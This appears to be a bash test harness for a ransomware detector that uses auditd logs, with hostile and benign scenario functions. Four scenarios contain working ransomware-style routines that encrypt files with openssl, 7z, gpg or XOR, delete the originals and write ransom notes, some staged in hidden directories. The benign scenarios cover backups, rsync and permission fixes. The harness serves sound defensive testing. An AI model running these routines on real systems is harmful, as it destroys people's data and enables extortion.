# each scenario: sc_NAME runs while auditd records. Writes expected facts to $CASE/facts.
wait_cron() { # wait until the cron-started marker file appears and the job is done
  local marker=$1; for i in $(seq 150); do [ -f "$marker" ] && break; sleep 1; done
}
cron_at_next_minute() { date -d '+1 minute' +'%M %H'; }

sc_h1_ssh_sudo_openssl() {
  install -d -m 755 /tmp/.x
  cat > /tmp/.x/u.sh <<'S'
#!/bin/bash
find /srv/nas/share -type f | while read -r f; do
  openssl enc -aes-256-cbc -pbkdf2 -pass pass:Qx7tLm -in "$f" -out "$f.crypted" && rm -f "$f"
done
find /srv/nas/share -type d | while read -r d; do
  printf 'Your files are encrypted. Mail restore@proton.example\n' > "$d/HOW_TO_RESTORE.txt"
done
S
  chmod 755 /tmp/.x/u.sh
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
  sshx mkowalski 'cd ~; ls -la >/dev/null; sudo bash /tmp/.x/u.sh'
  rm -rf /tmp/.x
}

sc_h2_qlocker_root_ssh() {
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
  sshx root 'cd /srv/nas/share && for d in */; do d=${d%/}; 7z a -bd -p"S3cr3t!" -mhe=on "$d.7z" "$d" >/dev/null && rm -rf "$d"; done; printf "All your files were encrypted with 7zip.\n" > "/srv/nas/share/!!!READ_ME.txt"'
}

sc_h3_cron_xargs_gpg() {
  install -d -o priya -g priya /home/priya/.local/bin
  cat > /home/priya/.local/bin/sync.sh <<'S'
#!/bin/bash
find "$HOME/work" -type f -print0 | xargs -0 -P 4 -n 1 sh -c 'gpg --batch --yes --pinentry-mode loopback --passphrase Hq2w -c "$0" && rm -f "$0"'
for d in "$HOME"/work/*/; do echo "send 0.1 BTC" > "$d/DECRYPT-FILES.txt"; done
touch /tmp/.h3-done
S
  chown priya: /home/priya/.local/bin/sync.sh; chmod 755 /home/priya/.local/bin/sync.sh
  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -mindepth 1 -type d | wc -l)" > $CASE/facts
  rm -f /tmp/.h3-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * /home/priya/.local/bin/sync.sh >/dev/null 2>&1" | crontab -u priya -
  wait_cron /tmp/.h3-done; sleep 2
  crontab -u priya -r
}

sc_h4_ssh_sudo_python_inplace() {
  install -d -m 755 /opt/.cache
  cat > /opt/.cache/l.py <<'S'
import os, sys
key = bytes(range(7, 39))
for root, dirs, files in os.walk(sys.argv[1]):
    for n in files:
        p = os.path.join(root, n)
        with open(p, 'r+b') as f:
            data = f.read()
            f.seek(0)
            f.write(bytes(b ^ key[i % 32] for i, b in enumerate(data)))
        os.rename(p, p + '.locked')
    with open(os.path.join(root, 'README_LOCKED.html'), 'w') as f:
        f.write('<h1>locked</h1>')
S
  echo "files $(find /var/www/shop/uploads -type f | wc -l) dirs $(find /var/www/shop/uploads -type d | wc -l)" > $CASE/facts
  sshx deploy 'sudo setsid nohup python3 /opt/.cache/l.py /var/www/shop/uploads >/dev/null 2>&1 < /dev/null & sleep 8'
  rm -rf /opt/.cache
}

sc_b1_cron_root_backup() {
  mkdir -p /var/backups/ho; rm -f /tmp/.b1-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * root tar czf - /srv/nas/share 2>/dev/null | gpg --batch --yes --pinentry-mode loopback --passphrase bk -c -o /var/backups/ho/nas.tgz.gpg; touch /tmp/.b1-done" > /etc/cron.d/ho-backup
  wait_cron /tmp/.b1-done; sleep 2; rm -f /etc/cron.d/ho-backup
}
sc_b2_ssh_gzip_recursive() { sshx priya 'gzip -r ~/work; ls -R ~/work | wc -l'; }
sc_b3_ssh_mogrify() {
  sshx mkowalski 'cd ~/Documents && for d in */; do (cd "$d" && for f in *.jpg *.png; do [ -f "$f" ] && cp "$f" "${f%.*}.bak.${f##*.}"; done); done; find ~/Documents -name "*.txt" -exec sed -i "s/a/A/g" {} +'
}
sc_b4_cron_rsync_mirror() {
  rm -f /tmp/.b4-done; mkdir -p /srv/nas/mirror; chown svc-nas: /srv/nas/mirror
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * rsync -a --delete /srv/nas/share/ /srv/nas/mirror/ ; touch /tmp/.b4-done" | crontab -u svc-nas -
  wait_cron /tmp/.b4-done; sleep 1
  sshx svc-nas 'cd /srv/nas/share && for f in $(ls -d */* | head -20); do echo x >> "$f"; done; rm -f $(ls -d */* | tail -15); rsync -a --delete /srv/nas/share/ /srv/nas/mirror/'
  crontab -u svc-nas -r
}
sc_b5_user_encrypts_few() {
  sshx mkowalski 'cd ~/Documents && i=0; for f in */*.pdf */*.docx; do i=$((i+1)); [ $i -gt 3 ] && break; gpg --batch --yes --pinentry-mode loopback --passphrase mine -c "$f" && shred -u "$f"; done; gpg --batch --yes --pinentry-mode loopback --passphrase mine -d -o /tmp/ho-dec.out $(ls */*.gpg | head -1)'
}
sc_b6_sudo_perm_fix() { sshx deploy 'sudo chown -R www-data: /var/www/shop && sudo find /var/www/shop -type f -exec chmod 640 {} + && sudo find /var/www/shop -type d -exec chmod 750 {} +'; }
sc_b7_zip_encrypted_backup() { sshx priya 'cd ~ && zip -q -r -P backupPW /tmp/priya-backup.zip work && 7z a -bd -pX -mhe=on /tmp/priya-backup.7z work >/dev/null'; }
sc_b8_git_project() {
  sshx tomas 'mkdir -p ~/proj && cd ~/proj && git init -q && for i in $(seq 1 120); do mkdir -p src/m$((i%10)); echo "int f$i(){return $i;}" > src/m$((i%10))/f$i.c; done && git add -A && git -c user.email=t@x -c user.name=t commit -qm init && git checkout -qb feature && for i in $(seq 1 60); do echo "// c" >> src/m$((i%10))/f$i.c; done && git -c user.email=t@x -c user.name=t commit -qam two && git checkout -q master && git gc -q'
}
